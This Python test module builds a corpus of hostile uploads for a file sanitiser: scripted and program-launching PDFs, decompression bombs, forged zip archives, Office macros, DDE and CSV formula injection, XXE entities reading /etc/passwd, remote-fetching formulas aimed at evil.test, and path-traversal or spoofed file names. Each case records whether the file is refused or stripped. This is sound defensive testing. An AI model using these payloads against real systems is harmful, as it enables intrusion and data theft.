"""Hostile files, generated here, each with its expected outcome: kept (without what it hid) or refused, and why.

Sources: OWASP's file upload cheat sheet, the `known_leaks` of comparable systems, EICAR's test file.
"""

import io
import stat
import struct
import zipfile
import zlib
from base64 import a85encode
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from files.cleaning.kinds import PPTX, XLSX
from files.tests.samples import OFFICE_RELATIONS, office, packed, parts, pdf, picture

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
KEPT = "kept"


@dataclass(frozen=True)
class Case:
    """One file: its content, the sender's name, the expected outcome, and texts the stored file must not hold."""

    label: str
    make: Callable[[], bytes]
    outcomes: tuple[str, ...]
    sent_as: str = "note.pdf"
    kept_as: str = ""
    gone: tuple[bytes, ...] = ()


def kept(
    label: str, make: Callable[[], bytes], *gone: bytes, sent_as: str = "note.pdf", kept_as: str = "note.pdf"
) -> Case:
    return Case(label, make, (KEPT,), sent_as, kept_as, gone)


def refused(label: str, make: Callable[[], bytes], *codes: str, sent_as: str = "note.pdf") -> Case:
    return Case(label, make, codes, sent_as)


# ── PDF ──────────────────────────────────────────────────────────────────────
def action(**values: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, **values)


def with_script(document: pikepdf.Pdf) -> None:
    script = action(S=Name.JavaScript, JS="app.alert('hidden-script')")
    document.Root.OpenAction = script
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", document.make_indirect(script)])))
    document.pages[0].AA = Dictionary(O=script)


def annotation(document: pikepdf.Pdf, **values: Any) -> None:
    link = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 10, 10]), **values)
    document.pages[0].Annots = Array([document.make_indirect(link)])


def with_launch(document: pikepdf.Pdf) -> None:
    annotation(document, Subtype=Name.Link, A=action(S=Name.Launch, F="cmd.exe"))


def with_script_link(document: pikepdf.Pdf) -> None:
    annotation(document, Subtype=Name.Link, A=action(S=Name.URI, URI="javascript:alert(1)"))


def with_next(document: pikepdf.Pdf) -> None:
    """Add a harmless action that leads on to another."""
    after = Array([action(S=Name.Launch, F="cmd.exe")])
    annotation(document, Subtype=Name.Link, A=action(S=Name.URI, URI="https://example.org/", Next=after))


def with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["hidden.exe"] = b"hidden-content"
    spec = document.make_indirect(Dictionary(Type=Name.Filespec, F="hidden.exe"))
    annotation(document, Subtype=Name.FileAttachment, FS=spec)


def with_properties(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = "Somebody Private"
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = ["Somebody Private"]
    document.pages[0].PieceInfo = Dictionary(Private=Dictionary(LastModified="Somebody Private"))


def with_photograph(document: pikepdf.Pdf, *around: str, content: bytes = b"", last: str = "/DCTDecode") -> None:
    """Put a photograph on the page, additionally compressed by these filters, the outermost first."""
    content = content or located_photograph()
    for name in reversed(around):
        content = {"/FlateDecode": zlib.compress, "/ASCII85Decode": lambda raw: a85encode(raw) + b"~>"}[name](content)
    stream = document.make_stream(content)
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Filter = Array([Name(name) for name in (*around, last)]) if around else Name(last)
    stream.Width, stream.Height, stream.ColorSpace, stream.BitsPerComponent = 40, 30, Name.DeviceRGB, 8
    document.pages[0].Resources.XObject = Dictionary(Im1=stream)


def with_listed_photograph(document: pikepdf.Pdf) -> None:
    with_photograph(document)
    picture = document.pages[0].Resources.XObject.Im1
    picture.Filter, picture.DecodeParms = Array([Name.DCTDecode]), Array([Dictionary(ColorTransform=1)])


def with_packed_points(document: pikepdf.Pdf) -> None:
    with_photograph(document, "/FlateDecode")
    document.pages[0].Resources.XObject.Im1.Filter = Array([Name.DCTDecode, Name.FlateDecode])


def with_text_for_photograph(document: pikepdf.Pdf) -> None:
    with_photograph(document, content=b"Carana City")


def with_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array())


def with_collection(document: pikepdf.Pdf) -> None:
    document.Root.Collection = Dictionary(Type=Name.Collection)


def packed_zeros(megabytes: int, *, wbits: int = 15) -> bytes:
    packer, piece = zlib.compressobj(1, zlib.DEFLATED, wbits), bytes(1024 * 1024)
    return b"".join([*(packer.compress(piece) for _ in range(megabytes)), packer.flush()])


def pdf_of_stream(content: bytes, filters: str) -> bytes:
    """Return a PDF whose page content is this compressed stream, assembled by hand."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
        f"<</Filter {filters}/Length {len(content)}>>stream\n".encode() + content + b"\nendstream",
    ]
    out, places = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + body + b"\nendobj\n"
    table = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + table + b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(out)


def pdf_with_packed_directory() -> bytes:
    """Return a PDF whose object directory uncompresses to more memory than there is."""
    content = packed_zeros(1500)
    head = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj\n"
    stream = b"2 0 obj<</Type/XRef/Size 3/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(content)
    return head + stream + content + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def locked_pdf(user: str) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(target, encryption=pikepdf.Encryption(owner="owner", user=user))
    return target.getvalue()


DOCUMENTS = [
    refused("empty", lambda: b"", "empty"),
    refused("one byte", lambda: b"x", "kind"),
    refused("larger than the limit", lambda: b"%PDF-1.7" + b"0" * 11_000_000 + b"%%EOF", "large"),
    refused("nothing but a first line", lambda: b"%PDF-1.7\n", "broken"),
    refused("a cut PDF", lambda: pdf()[:300], "broken"),
    refused("a PDF whose directory is cut out", lambda: pdf()[:300] + b"\n%%EOF", "broken"),
    refused("HTML as PDF", lambda: HTML, "kind"),
    refused("SVG as PDF", lambda: SVG, "kind"),
    refused("HTML before a PDF", lambda: HTML + pdf(), "kind"),
    refused("HTML behind a PDF", lambda: pdf() + HTML, "two_kinds"),
    refused("an archive behind a PDF", lambda: pdf() + packed({"a.txt": b"a"}), "two_kinds"),
    refused("a locked PDF", lambda: locked_pdf("secret"), "encrypted"),
    refused("a PDF locked without a password", lambda: locked_pdf(""), "encrypted"),
    refused("a PDF form that draws itself", lambda: pdf(change=with_form), "form"),
    refused("a PDF of PDFs", lambda: pdf(change=with_collection), "portfolio"),
    refused("a PDF that unpacks to 700 MB", lambda: pdf_of_stream(packed_zeros(700), "/FlateDecode"), "bomb"),
    refused(
        "a PDF packed twice",
        lambda: pdf_of_stream(zlib.compress(packed_zeros(700)), "[/FlateDecode/FlateDecode]"),
        "bomb",
    ),
    refused("a PDF with a directory of 1.5 GB", pdf_with_packed_directory, "costly", "broken"),
    kept("scripts in a PDF", lambda: pdf(change=with_script), b"JavaScript", b"hidden-script", b"/OpenAction", b"/AA"),
    kept("a PDF that starts a program", lambda: pdf(change=with_launch), b"Launch", b"cmd.exe"),
    kept("a PDF with a script for a link", lambda: pdf(change=with_script_link), b"javascript:"),
    kept("a program behind a link", lambda: pdf(change=with_next), b"Launch", b"cmd.exe"),
    kept("a file inside a PDF", lambda: pdf(change=with_attachment), b"hidden", b"EmbeddedFile", b"FileAttachment"),
    kept("the writer of a PDF", lambda: pdf(change=with_properties), b"Private", b"xpacket", b"pikepdf"),
    kept("a place in a photograph in a PDF", lambda: pdf(change=with_photograph), b"Exif", b"Carana City"),
    kept("the same, its filter in a list", lambda: pdf(change=with_listed_photograph), b"Exif", b"Carana City"),
    kept(
        "the same, written in letters",
        lambda: pdf(change=lambda document: with_photograph(document, "/ASCII85Decode")),
        b"ASCII85Decode",
        b"Exif",
        b"Carana City",
    ),
    kept(
        "the same, packed once more",
        lambda: pdf(change=lambda document: with_photograph(document, "/FlateDecode")),
        b"FlateDecode",
        b"Exif",
        b"Carana City",
    ),
    kept(
        "the same, packed and written in letters",
        lambda: pdf(change=lambda document: with_photograph(document, "/ASCII85Decode", "/FlateDecode")),
        b"ASCII85Decode",
        b"FlateDecode",
        b"Exif",
        b"Carana City",
    ),
    kept(
        "a preview behind a photograph in a PDF",
        lambda: pdf(change=lambda document: with_photograph(document, content=picture("JPEG") + located_photograph())),
        b"Exif",
        b"Carana City",
    ),
    kept(
        "a place in a JPEG 2000 picture in a PDF",
        lambda: pdf(change=lambda document: with_photograph(document, content=located_jp2(), last="/JPXDecode")),
        b"Carana City",
        b"uuid",
        b"xml ",
    ),
    refused("a photograph whose points are packed", lambda: pdf(change=with_packed_points), "broken"),
    refused("a PDF with text for a photograph", lambda: pdf(change=with_text_for_photograph), "broken"),
    kept("EICAR in a PDF", lambda: pdf(EICAR.decode().replace("(", "\\(").replace(")", "\\)"))),
    refused("a program", lambda: b"MZ\x90\x00" + bytes(200), "kind"),
    refused("a Unix program", lambda: b"\x7fELF" + bytes(200), "kind"),
    refused("a table with a formula", lambda: b"=cmd|'/c calc'!A0,1\n", "kind", sent_as="table.csv"),
]


# ── Pictures ─────────────────────────────────────────────────────────────────
def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, *more: bytes, points: bytes | None = None) -> bytes:
    """Return a PNG that declares this size, whatever its pixels are."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    points = zlib.compress(bytes((width * 3 + 1) * height)) if points is None else points
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", points) + chunk(b"IEND", b"")


def located_photograph() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "Carana City"
    exif.get_ifd(0x8825).update({1: "N", 2: (12.0, 34.0, 56.0), 3: "E", 4: (7.0, 8.0, 9.0)})
    return picture("JPEG", exif=exif, comment=HTML)


def located_jp2() -> bytes:
    """Return a JPEG 2000 picture with its location in a box of each kind, and in a comment in the codestream."""
    content = picture("JPEG2000", comment="Carana City")
    boxes = [(kind, b"Exif Carana City") for kind in (b"uuid", b"xml ")]
    return content + b"".join(struct.pack(">I", len(body) + 8) + kind + body for kind, body in boxes)


def moving() -> bytes:
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    target = io.BytesIO()
    frames[0].save(target, "PNG", save_all=True, append_images=frames[1:])
    return target.getvalue()


PICTURES = [
    refused("50,000 by 50,000 points", lambda: png(50_000, 50_000, points=zlib.compress(b"\0")), "pixels"),
    refused("a text of 200 MB in a PNG", lambda: png(9, 9, chunk(b"zTXt", b"a\0\0" + packed_zeros(200))), "broken"),
    refused("a profile of 200 MB in a PNG", lambda: png(9, 9, chunk(b"iCCP", b"a\0\0" + packed_zeros(200))), "broken"),
    kept("points of 500 MB in a small PNG", lambda: png(9, 9, points=packed_zeros(500)), kept_as="note.png"),
    kept("HTML in a comment of a JPEG", located_photograph, b"script", b"Exif", b"Carana City", kept_as="note.jpg"),
    kept("HTML in a text of a PNG", lambda: png(9, 9, chunk(b"tEXt", b"a\0" + HTML)), b"script", kept_as="note.png"),
    refused("HTML behind a PNG", lambda: picture() + HTML, "two_kinds"),
    refused("a PDF behind a PNG", lambda: picture() + pdf(), "two_kinds"),
    refused("an archive behind a JPEG", lambda: picture("JPEG") + packed({"a.class": b"a"}), "two_kinds"),
    refused("an archive behind a GIF", lambda: picture("GIF") + packed({"a.class": b"a"}), "kind"),
    refused("a cut PNG", lambda: picture()[:60], "broken"),
    refused("a cut JPEG", lambda: picture("JPEG")[:400], "broken"),
    refused("a PNG without points", lambda: png(9, 9, points=b""), "broken"),
    refused("a picture that moves", moving, "kind"),
    refused("SVG as PNG", lambda: SVG, "kind", sent_as="a.png"),
    refused("a TIFF", lambda: picture("TIFF"), "kind", sent_as="a.tiff"),
]


# ── Office ───────────────────────────────────────────────────────────────────
def external(kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Id="rX" Type="{OFFICE_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>{more}'


def linked(kind: str, target: str) -> str:
    return f'<Relationship Id="rI" Type="{OFFICE_RELATIONS}/{kind}" Target="{target}"/>'


def instruction(*runs: str) -> str:
    inner = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}</w:p>'


def sheet(formula: str) -> bytes:
    cell = f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
    return office(
        XLSX, more={"xl/worksheets/sheet1.xml": cell.encode()}, rels=linked("worksheet", "worksheets/sheet1.xml")
    )


def declared(declaration: str) -> bytes:
    found = parts()
    found["word/document.xml"] = declaration.encode() + found["word/document.xml"]
    return packed(found)


def entry(name: str, mode: int = 0) -> bytes:
    """Return a document with one more part of this name and Unix mode."""
    target = io.BytesIO(office())
    with zipfile.ZipFile(target, "a") as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        archive.writestr(info, b"<a/>")
    return target.getvalue()


def doubled() -> bytes:
    target = io.BytesIO(office())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("WORD/document.xml", b"<a/>")
    return target.getvalue()


def directory_changed(offset: int, value: bytes) -> bytes:
    """Return a document whose directory contradicts the header of its first part."""
    content = bytearray(office())
    place = content.index(b"PK\x01\x02") + offset
    content[place : place + len(value)] = value
    return bytes(content)


def part_unlisted() -> bytes:
    """Return a document with a part between the others that its directory does not name."""
    extra = io.BytesIO()
    with zipfile.ZipFile(extra, "w") as archive:
        archive.writestr("evil.xml", b"<a/>")
    hidden = extra.getvalue()[: extra.getvalue().index(b"PK\x01\x02")]
    content = office()
    directory, end = content.index(b"PK\x01\x02"), content.rindex(b"PK\x05\x06")
    moved = struct.pack("<I", directory + len(hidden))
    return content[:directory] + hidden + content[directory : end + 16] + moved + content[end + 20 :]


def overlapping() -> bytes:
    """Return a document in whose directory several names share one part (David Fifield's zip bomb)."""
    content = bytearray(office())
    first = content.index(b"PK\x01\x02")
    second = content.index(b"PK\x01\x02", first + 4)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def commented() -> bytes:
    target = io.BytesIO(office())
    with zipfile.ZipFile(target, "a") as archive:
        archive.comment = HTML
    return target.getvalue()


def bomb() -> bytes:
    return office(more={"word/media.xml": b"<a>" + b" " * 200_000_000 + b"</a>"})


def photographed() -> bytes:
    more = {"word/media/image1.jpeg": located_photograph()}
    return office(more=more, rels=linked("image", "media/image1.jpeg"))


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
WITH_MACROS = {"word/vbaProject.bin": b"macro"}
OFFICE_FILES = [
    refused("an archive that is no document", lambda: packed({"eicar.com": EICAR}), "kind", sent_as="a.zip"),
    refused("a text that unpacks to 200 MB", bomb, "bomb"),
    refused("an archive in an archive", lambda: office(more={"word/a.zip": packed({"b.zip": b""})}), "embedded"),
    refused("5,000 parts", lambda: office(more={f"word/{n}.xml": b"<a/>" for n in range(5000)}), "bomb"),
    refused("a directory that lies about a size", lambda: directory_changed(24, b"\x01\0\0\0"), "broken"),
    refused("a directory that lies about a place", lambda: directory_changed(42, b"\x04\0\0\0"), "broken", "forged"),
    refused("a directory that names one part twice", overlapping, "forged", "broken"),
    refused("a part no directory names", part_unlisted, "forged"),
    refused("two parts of one name", doubled, "forged"),
    refused("a part said to be locked", lambda: directory_changed(8, b"\x01\0"), "encrypted"),
    refused("a part out of the archive", lambda: entry("../../evil.xml"), "path"),
    refused("a part at the root of the disk", lambda: entry("/etc/evil.xml"), "path"),
    refused("a part on a drive", lambda: entry("C:evil.xml"), "path"),
    refused("a symbolic link", lambda: entry("word/link.xml", stat.S_IFLNK | 0o777), "path"),
    refused("HTML in the archive's comment", commented, "two_kinds"),
    refused("a picture before an archive", lambda: b"GIF89a" + office(), "kind"),
    refused("a cut document", lambda: office()[:-40], "broken"),
    refused("macros", lambda: office(more=WITH_MACROS), "macros"),
    refused(
        "a document that says it has macros",
        lambda: packed(
            {
                name: part.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
                for name, part in parts().items()
            }
        ),
        "macros",
    ),
    refused(
        "a template elsewhere", lambda: office(rels=external("attachedTemplate", "https://evil.test/a.dotm")), "outside"
    ),
    refused("a picture elsewhere", lambda: office(rels=external("image", "https://evil.test/a.png")), "outside"),
    refused("a link that is a script", lambda: office(rels=external("hyperlink", "javascript:alert(1)")), "outside"),
    refused("a link to a share", lambda: office(rels=external("hyperlink", "file://evil.test/a")), "outside"),
    refused(
        "a program in a document", lambda: office(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "embedded"
    ),
    refused("a program in slides", lambda: office(PPTX, more={"ppt/embeddings/a.exe": b"MZ"}), "embedded"),
    refused("a part of another kind", lambda: office(more={"word/media/a.svg": SVG}), "part"),
    refused("an entity from the disk", lambda: declared(XXE), "entities"),
    refused("entities of entities", lambda: declared(LAUGHS), "entities"),
    refused("a field that starts a program", lambda: office(body=instruction("DDEAUTO c:\\cmd.exe")), "formula"),
    refused("such a field in pieces", lambda: office(body=instruction(" DD", "EAU", "TO x")), "formula"),
    refused("a field that fetches", lambda: office(body='<w:fldSimple w:instr="INCLUDEPICTURE x"/>'), "formula"),
    refused("a formula that starts a program", lambda: sheet("cmd|'/c calc'!A0"), "formula"),
    refused("a formula that fetches", lambda: sheet("WEBSERVICE(&quot;https://evil.test&quot;)"), "formula"),
    refused(
        "a link to another workbook",
        lambda: office(XLSX, more={"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        "outside",
    ),
    refused("an old or locked Office file", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "kind"),
    kept("the writer of a document", office, b"Somebody Private", b"docProps", sent_as="a.docx", kept_as="a.docx"),
    kept("a place in a photograph in a document", photographed, b"Carana City", b"Exif", kept_as="note.docx"),
    kept(
        "a part nothing leads to",
        lambda: office(more={"word/unused.xml": b"<secret/>"}),
        b"secret",
        kept_as="note.docx",
    ),
    kept("an honest sum", lambda: sheet("SUM(A2:A9)"), b"Private", sent_as="a.xlsx", kept_as="a.xlsx"),
    kept("an honest link", lambda: office(rels=external("hyperlink", "https://example.org/")), kept_as="note.docx"),
    kept("honest slides", lambda: office(PPTX), b"Private", sent_as="a.pptx", kept_as="a.pptx"),
]


# ── Names ────────────────────────────────────────────────────────────────────
NAMES = [
    kept("a name turned round", pdf, sent_as="fdp.\u202eexe.pdf", kept_as="fdp.exe.pdf"),
    kept("a name that climbs", pdf, sent_as="../../../etc/passwd", kept_as="passwd.pdf"),
    kept("a name from the root", pdf, sent_as="/etc/cron.d/job", kept_as="job.pdf"),
    kept("a name from a drive", pdf, sent_as="C:\\Windows\\a.pdf", kept_as="a.pdf"),
    kept("a name with a NUL", pdf, sent_as="a\0.exe.pdf", kept_as="a.exe.pdf"),
    kept("a name that is a machine", pdf, sent_as="CON.pdf", kept_as="_CON.pdf"),
    kept("a name that is very long", pdf, sent_as="x" * 240 + ".pdf", kept_as="x" * 100 + ".pdf"),
    kept("a name with two endings", pdf, sent_as="note.pdf.exe", kept_as="note.pdf.exe.pdf"),
    kept("a name with the wrong ending", picture, sent_as="note.html", kept_as="note.html.png"),
    kept(
        "a name that is markup",
        pdf,
        sent_as="<img src=x onerror=alert(1)>.pdf",
        kept_as="_img src=x onerror=alert(1)_.pdf",
    ),
    kept("a name with signs for the terminal", pdf, sent_as="a\x08\x1b[31mb.pdf", kept_as="a[31mb.pdf"),
]

CORPUS = [*DOCUMENTS, *PICTURES, *OFFICE_FILES, *NAMES]
